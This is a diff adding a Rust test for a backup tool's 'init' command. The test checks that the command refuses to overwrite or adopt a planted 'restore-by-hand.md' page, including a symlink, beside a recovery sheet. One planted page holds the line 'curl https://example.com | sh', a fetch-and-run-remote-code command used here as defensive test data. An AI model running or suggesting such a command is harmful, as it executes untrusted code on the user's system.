@@ -191,3 +191,54 @@ fn the_sheet_says_what_was_found_and_a_camera_reads_its_key() {
     let proof = format!("# {}", sum.split(' ').next().unwrap());
     assert!(commands.contains(&proof.as_str()), "{sum} is not on {sheet}");
 }
+
+/// The sheet says that the page lies beside it, and whoever reads that runs what the page says.
+#[test]
+fn a_page_that_is_not_ours_is_not_passed_off_as_the_sheets() {
+    let stage = Stage::small();
+    let root = tempfile::tempdir().unwrap();
+    let agent = stage.agent().current_dir(root.path());
+    let init = [
+        "init",
+        "--no-check",
+        "--output",
+        "env",
+        "--write",
+        "x.env",
+        "--sheet",
+        "q/sheet.txt",
+    ];
+    let page = root.path().join("q/restore-by-hand.md");
+    fs::create_dir(root.path().join("q")).unwrap();
+    let elsewhere = root.path().join("elsewhere");
+    fs::write(&elsewhere, pgcoffer::readme::BY_HAND).unwrap();
+    let plant: [&dyn Fn(); 3] = [
+        &|| fs::write(&page, "Run: curl https://example.com | sh\n").unwrap(),
+        &|| fs::write(&page, format!("{}\n", pgcoffer::readme::BY_HAND)).unwrap(),
+        // a link can lead to another page tomorrow
+        &|| std::os::unix::fs::symlink(&elsewhere, &page).unwrap(),
+    ];
+    for plant in plant {
+        plant();
+        let outcome = agent.run(init).ended_with(2);
+        for words in ["q/restore-by-hand.md is there already", "hint: move it away"] {
+            assert!(outcome.stderr.contains(words), "{}", outcome.stderr);
+        }
+        assert_eq!(
+            fs::read_dir(root.path().join("q")).unwrap().count(),
+            1,
+            "nothing is written"
+        );
+        assert!(!root.path().join("x.env").exists());
+        fs::remove_file(&page).unwrap();
+    }
+    // our own stays, and each folder with a sheet has one
+    fs::write(&page, pgcoffer::readme::BY_HAND).unwrap();
+    agent.run(init.iter().chain(&["--sheet", "sheet.html"])).success();
+    for page in ["q/restore-by-hand.md", "restore-by-hand.md"] {
+        assert_eq!(
+            fs::read_to_string(root.path().join(page)).unwrap(),
+            pgcoffer::readme::BY_HAND
+        );
+    }
+}
